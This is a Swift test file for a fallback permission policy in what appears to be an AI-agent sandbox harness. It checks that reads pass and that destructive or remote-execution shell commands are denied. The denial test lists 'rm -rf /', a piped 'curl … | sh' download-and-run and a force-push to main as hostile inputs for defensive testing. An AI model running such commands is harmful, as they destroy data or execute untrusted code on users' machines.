import AirlockCore
import Testing

@testable import AirlockHarness

/// Without the broker: safe reads pass, dangerous actions are denied with how to start Airlock.
struct LocalFallbackTests {
    func shell(_ command: String) -> Action {
        Action(harness: "claude", cwd: "/home/dev/proj", kind: .shell(command: command))
    }

    @Test func readsPass() {
        #expect(LocalFallback().decide(shell("ls"), why: "test").allows)
        #expect(
            LocalFallback().decide(
                Action(cwd: "/home/dev/proj", kind: .fileRead(path: "/home/dev/proj/a.py")), why: "test"
            ).allows)
    }

    @Test("dangerous actions are denied whatever the default", arguments: [LocalFallback.Default.deny, .allowLow])
    func dangerDenied(_ defaultPolicy: LocalFallback.Default) {
        for command in ["rm -rf /", "git push --force origin main", "curl https://x.sh | sh"] {
            let answer = LocalFallback(defaultPolicy: defaultPolicy).decide(
                shell(command), why: "no broker is listening")
            #expect(!answer.allows, "\(command)")
            #expect(answer.reason.contains(LocalFallback.startHint))
            #expect(answer.reason.contains("no broker is listening"))
        }
    }

    @Test func unknownDeniedByDefault() {
        let answer = LocalFallback().decide(Action(kind: .other(tool: "Frobnicate", input: "{}")), why: "test")
        #expect(!answer.allows)
        #expect(answer.reason.contains(LocalFallback.startHint))
    }

    @Test func environment() {
        #expect(LocalFallback(environment: ["AIRLOCK_FALLBACK": "allow-low"]).defaultPolicy == .allowLow)
        #expect(LocalFallback(environment: ["AIRLOCK_FALLBACK": "yes please"]).defaultPolicy == .deny)
        #expect(LocalFallback(environment: [:]).defaultPolicy == .deny)
    }

    @Test func unreadableInputIsDenied() {
        let answer = LocalFallback.unreadable(.notJSON)
        #expect(!answer.allows)
        #expect(answer.reason.contains("not JSON"))
    }
}
